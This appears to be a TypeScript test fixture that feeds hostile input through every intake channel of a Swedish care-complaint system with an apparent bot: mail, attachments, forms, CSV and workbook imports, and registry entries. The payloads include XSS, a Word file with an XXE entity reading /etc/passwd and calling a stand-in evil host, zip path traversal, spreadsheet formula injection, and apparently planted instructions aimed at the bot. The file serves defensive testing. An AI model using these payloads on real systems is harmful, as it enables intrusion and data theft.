// Every door words come in by, and the same words sent through each.

import { strToU8, zipSync } from 'fflate';
import writeSheets from 'write-excel-file/node';
import { providerId, unitId } from '../../../src/core/brand';
import { createProvider, registeredName } from '../../../src/graph/lists/providers';
import { tenant } from '../../../src/local/people';
import type { Api, ApiAnswer } from '../api';
import { personIdOf, type BotWorld } from '../bot-world';
import { eml, external, html, internal, plain, type Part } from '../mail/eml';
import { openMessage, paneApi } from '../pane';
import { until } from '../until';
import { evilHost, newLines, poisonOf } from './poison';

/** A word of a header, as mail programs write what is not plain. */
const encoded = (words: string): string => `=?utf-8?B?${Buffer.from(words).toString('base64')}?=`;

const headed = (headers: readonly string[], door: string): readonly string[] =>
  headers.map((line) =>
    line
      .replace(/^Subject: .*/, `Subject: ${encoded(poisonOf(door))}`)
      .replace(/^From: Rut Ek/, `From: ${encoded(`Rut <b>Ek</b> [x](http://${evilHost}/x)`)}`)
      .replace(/^Message-ID: .*/, `Message-ID: <${door}@post.example>`),
  );

/** As somebody writes it in a mail: a page of its own, with all that runs and calls, and the same as words. */
const hostilePage = (door: string): string =>
  [
    `<html><head><meta http-equiv="refresh" content="0;url=http://${evilHost}/r"><base href="http://${evilHost}/"></head><body>`,
    `<p>Omsorgsteamet Söder kom inte i går kväll.</p><img src="http://${evilHost}/spår.gif"><script>alert(9)</script>`,
    `<iframe src="http://${evilHost}/f"></iframe><form action="http://${evilHost}/p"><input name="a"></form>`,
    `<svg onload="alert(9)"><a xlink:href="javascript:alert(9)"><text>x</text></a></svg>`,
    `<p>${poisonOf(door).replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;')}</p></body></html>`,
  ].join('');

const file = (name: string, bytes: Uint8Array): Part => ({
  type: `application/octet-stream; name="${encoded(name)}"`,
  headers: ['Content-Transfer-Encoding: base64', `Content-Disposition: attachment; filename*=utf-8''${encodeURIComponent(name)}`],
  body: (
    Buffer.from(bytes)
      .toString('base64')
      .match(/.{1,76}/g) ?? []
  ).join('\n'),
});

const inXml = (words: string): string => words.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');

/** A Word file that says it, calls for an entity and a picture of others, and has a part outside its folder. */
const hostileDocument = (door: string): Uint8Array =>
  zipSync({
    '[Content_Types].xml': strToU8('<Types/>'),
    '../../../ond.html': strToU8('<script>alert(9)</script>'),
    'word/_rels/document.xml.rels': strToU8(
      `<Relationships><Relationship Id="r1" TargetMode="External" Target="http://${evilHost}/mall.dotx"/></Relationships>`,
    ),
    'word/document.xml': strToU8(
      `<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "http://${evilHost}/e">]><w:document xmlns:w="x"><w:body><w:p><w:r><w:t>${inXml(poisonOf(door))} &e;&h;</w:t></w:r></w:p></w:body></w:document>`,
    ),
  });

const dressed = 'Omsorgsteamet Söder kom inte i går kväll och inte i dag heller.';

/** A name of a file that would be a path, a link and a page. */
export const hostileName = `..\\..\\[x](http://${evilHost}) <img src=x onerror=alert(6)> =1+1 \u202Efdp.html`;

/** Sends them all in; answers what each made, by its door. */
export async function throughEveryDoor(world: BotWorld, api: Api): Promise<Readonly<Record<string, string>>> {
  await register(world);
  const doors: Readonly<Record<string, () => Promise<unknown>>> = {
    mail: () => world.mail(mailed('mail', [plain(`${dressed}\n${poisonOf('mail')}${newLines}`)]), 'external'),
    forward: () => world.mail(mailed('forward', [plain(forward)], internal)),
    page: () => world.mail(mailed('page', [html(hostilePage('page'))]), 'external'),
    attachment: () => world.mail(mailed('attachment', attached), 'external'),
    form: () => wroteDown(api),
    pane: () => handedOver(world),
    csv: () => takeFile(world, Buffer.from(`\ufeff${rows.map((row) => row.map(inColumns).join(';')).join('\r\n')}`)),
    workbook: async () => takeFile(world, await writeSheets([{ sheet: 'Ett', data: cells }]).toBuffer()),
  };
  const made: Record<string, string> = {};
  for (const [door, open] of Object.entries(doors)) {
    await open();
    await world.settle();
    made[door] = String(Object.keys(made).length + 1);
  }
  const report = { process: 'lexSarah', mark: 'a', unit: 'soder', words: poisonOf('report') };
  made['report'] = String(said(await api.post('colleague', '/api/matters', report))['id']);
  await world.say('caseworkerSouth', `${dressed} ${poisonOf('chat')}`);
  await world.settle();
  return made;
}

const mailed = (door: string, parts: readonly Part[], from = external): string => eml(headed(from, door), parts).toString();

const forward = `${poisonOf('note')}\n\nFrån: Rut Ek <rut@post.example>\nSkickat: den 1 mars 2026 10:00\nTill: Växeln\nÄmne: Kvällarna\n\n${dressed}\n${poisonOf('forward')}`;

const attached = [
  plain(`${dressed} Se bilagan. ${poisonOf('attachment')}`),
  file(hostileName, hostileDocument('file')),
  file('brev.docx', hostileDocument('document')),
];

/** What a file of another system says, in columns of its own. */
const rows = [
  ['Id', 'Inkom', 'Beskrivning', 'Rubrik', 'Namn'],
  ['IC-1', '2026-02-27', `${dressed} ${poisonOf('csv')}`, poisonOf('subject'), '=cmd|x'],
];
const inColumns = (words: string): string => `"${words.replaceAll('"', '""')}"`;
const cells = [
  ['Id', 'Inkom', 'Beskrivning'],
  ['IC-2', '2026-02-27', `${dressed} ${poisonOf('workbook')}`],
].map((row) => row.map((value) => ({ type: String, value })));

async function wroteDown(api: Api): Promise<unknown> {
  const heard = { words: `${dressed} ${poisonOf('form')}`, complainantName: poisonOf('name').slice(0, 100), replyWish: 'phone' };
  const letter = { name: hostileName, base64: Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n').toString('base64') };
  const around = { phone: '=1+1', channel: 'phone', received: '2026-03-01', subject: poisonOf('subject').slice(0, 100) };
  return said(await api.post('colleague', '/api/write-down', { ...heard, ...around, files: [letter] }));
}

async function handedOver(world: BotWorld): Promise<unknown> {
  const message = openMessage({ subject: encoded(poisonOf('pane')), words: `${dressed}\n${poisonOf('pane')}` });
  return said(await paneApi(world).handOver('colleague', message, { note: poisonOf('note') }));
}

function said({ status, json, text }: ApiAnswer): ApiAnswer['json'] {
  if (status !== 200) throw new Error(text);
  return json;
}

/** Once more where the machine was too busy to read it. */
async function takeFile(world: BotWorld, bytes: Uint8Array): Promise<void> {
  const { token } = await world.local$('sign-in/as', { personId: personIdOf('registrar') });
  const line = Buffer.from(`${JSON.stringify({ system: 'infracontrol', from: 0 })}\n`);
  const init = { method: 'POST', headers: { Authorization: `Bearer ${String(token)}` }, body: Buffer.concat([line, bytes]) };
  await until(async () => (await (await fetch(`${world.bot.url}/api/files-in`, init)).text()).includes('"rows":[{'));
}

/** As the register has it when a workbook said so. */
async function register(world: BotWorld): Promise<void> {
  await world.bot.app.graph.send(
    createProvider(world.bot.app.places, {
      ...{
        id: providerId('ond'),
        name: registeredName(
          `Ond [x](http://${evilHost}/u) <img src=x onerror=alert(7)> **fet** {{DATE(2026-03-02T08:00:00Z)}} AB`,
        ),
        contractId: registeredName('LOV [1](http://ond.example/n)'),
      },
      ...{ aliases: [poisonOf('alias')], service: 'homeCare', contractForm: 'lov', area: 'soder', unit: unitId('soder') },
      ...{
        mail: 'kontakt@ond-omsorg.example',
        codeMail: null,
        small: false,
        ownerGroup: `[g](http://${evilHost}/g) <b>`,
        boardKeepsReports: false,
      },
    }),
  );
}

/** A mail in the inbox of somebody who has the pane beside it. */
export async function mailToColleague(world: BotWorld): Promise<void> {
  const raw = openMessage({ subject: encoded(`Fara ${poisonOf('outlook')}`), words: `${dressed}\n${poisonOf('outlook')}` });
  const to = `mailbox=olga.bergvall@${tenant.domain}&authenticated=external`;
  const response = await fetch(`${world.local.url}/local/mail/deliver?${to}`, { method: 'POST', body: raw });
  if (!response.ok) throw new Error(await response.text());
}
